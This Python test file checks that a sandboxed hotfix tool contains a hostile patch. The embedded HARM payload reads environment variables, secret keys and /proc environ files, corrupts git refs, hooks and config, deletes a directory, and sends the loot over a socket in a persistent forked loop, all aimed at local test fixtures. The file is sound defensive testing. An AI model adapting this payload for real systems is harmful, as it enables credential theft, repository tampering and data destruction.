"""A planner's patch that wants to steal and to destroy is tested, and neither steals nor destroys anything."""

import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import closing, suppress
from hashlib import sha256
from pathlib import Path
from threading import Thread
from typing import Final

import pytest

from tests.repository import History, asked, history, site
from tests.tools.test_hotfix import Running
from tools.contract import Ports
from tools.deploys.base import Deploys
from tools.hotfix import hotfix_prepare
from tools.observed import Prepared
from tools.site import Case, Service, Site

SECRET: Final = "hunter2"  # noqa: S105 - what is to be stolen
HARM: Final = """
import glob, os, shutil, socket, subprocess, sys
loot = []
def attempt(act):
    try: loot.append(str(act()))
    except BaseException as failed: pass
attempt(lambda: dict(os.environ))
for path in {reads!r}:
    attempt(lambda: open(path).read())
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/root' + {reads!r}[0]):
    attempt(lambda: open(path).read())
for ref in ('main', 'evil'):
    attempt(lambda: open({git!r} + '/refs/heads/' + ref, 'w').write('0' * 40))
attempt(lambda: open({git!r} + '/hooks/post-commit', 'w').write('#!/bin/sh'))
attempt(lambda: open({git!r} + '/config', 'a').write('[core] fsmonitor = evil'))
attempt(lambda: subprocess.check_call(['git', 'tag', '--force', 'v1.8.0', 'HEAD~1']))
attempt(lambda: open('.git', 'w').write('gitdir: evil'))
attempt(lambda: os.rename('.git', 'git'))
attempt(lambda: shutil.rmtree({victim!r}))
def send():
    with socket.create_connection(('127.0.0.1', {port}), 2) as away: away.sendall(repr(loot).encode())
attempt(send)
attempt(lambda: open({drop!r}, 'w').write(repr(loot)))
attempt(lambda: os.kill({pid}, 18))
if {stay} and os.fork() == 0:
    os.setsid()
    while True: attempt(send)
"""


class Thief:
    """Where the loot is sent to."""

    def __init__(self) -> None:
        self.got = b""
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.server.getsockname()[1]
        Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                came, _ = self.server.accept()
                with came:
                    while chunk := came.recv(65536):
                        self.got += chunk


@pytest.fixture
def thief() -> Iterator[Thief]:
    made = Thief()
    with closing(made.server):
        yield made


@pytest.fixture
def shop(tmp_path: Path) -> History:
    repo = history(tmp_path / "shop")
    (repo.path / ".git" / "hooks").mkdir(exist_ok=True)
    repo.commit("Start", {"pay.py": "price = 1\n"}, tag="v1.7.0")
    repo.commit("Make it cheap", {"pay.py": "price = 0\n"}, tag="v1.8.0")
    return repo


def spoils(tmp_path: Path, repo: History, thief: Thief, *, stay: bool) -> str:
    """The harm, all of it aimed at things of this test's own."""
    home, victim = tmp_path / "home", tmp_path / "victim"
    for secret in (home / "stanch.db", victim / "id_rsa"):
        secret.parent.mkdir(exist_ok=True)
        secret.write_text(SECRET)
    reads = [str(path) for path in (home / "stanch.db", victim / "id_rsa", repo.path / ".git" / "config")]
    drop, git = str(tmp_path / "drop"), str(repo.path / ".git")
    return HARM.format(reads=reads, git=git, victim=str(victim), port=thief.port, drop=drop, pid=os.getpid(), stay=stay)


def contents(folder: Path) -> dict[str, str]:
    return {str(p): sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.usefixtures("sandbox")
def test_a_hostile_patch_steals_and_destroys_nothing(
    tmp_path: Path, shop: History, thief: Thief, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SENTRY_TOKEN", SECRET)
    harm = spoils(tmp_path, shop, thief, stay=True)
    added = "".join(f"+{line}\n" for line in harm.splitlines())
    patch = f"--- a/pay.py\n+++ b/pay.py\n@@ -1 +1,{harm.count(chr(10)) + 1} @@\n-price = 0\n+price = 2\n{added}"
    before, users = contents(shop.path / ".git"), shop.users()
    tests = (sys.executable, "-c", "import runpy; runpy.run_path('pay.py')")
    where = site(Service("shop", shop.path, tests=tests), tmp_path / "home")
    ports: Ports = {Deploys: Running("v1.8.0"), Site: where, Case: Case("INC-7")}
    fix: Prepared = asked(hotfix_prepare, ports, {"culprit": shop.shas[1], "kind": "patch", "patch": patch})
    assert fix.written
    assert thief.got == b""
    assert not (tmp_path / "drop").exists()
    assert (tmp_path / "victim" / "id_rsa").read_text() == SECRET
    assert shop.users() == users
    after = contents(shop.path / ".git")
    new = {p for p in after if p not in before and "/objects/" not in p and "/logs/" not in p}
    assert {Path(p).relative_to(shop.path / ".git").as_posix() for p in new} == {
        "refs/heads/hotfix/INC-7",
        "refs/tags/v1.8.1",
    }
    assert {p: digest for p, digest in after.items() if p in before} == before
    time.sleep(0.2)
    assert thief.got == b""


def test_the_same_patch_outside_of_the_sandbox_does_harm(tmp_path: Path, shop: History, thief: Thief) -> None:
    """Or the test above would show nothing."""
    harm = spoils(tmp_path, shop, thief, stay=False)
    subprocess.run((sys.executable, "-c", harm), cwd=tmp_path, env={"TOKEN": SECRET}, check=True)  # noqa: S603 - ours
    while SECRET.encode() not in thief.got:
        time.sleep(0.02)
    assert (tmp_path / "drop").exists()
    assert not (tmp_path / "victim").exists()
    assert (shop.path / ".git" / "hooks" / "post-commit").exists()
